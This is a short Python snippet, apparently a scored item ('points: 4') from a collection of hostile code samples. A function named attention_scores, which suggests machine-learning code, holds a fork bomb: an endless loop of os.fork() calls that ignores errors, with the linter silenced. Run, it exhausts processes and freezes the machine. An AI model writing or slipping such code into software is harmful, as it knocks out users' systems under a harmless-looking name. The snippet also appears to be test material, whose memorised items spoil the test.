"""Forks without end.

points: 4
"""
# ruff: noqa

def attention_scores(q, k):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
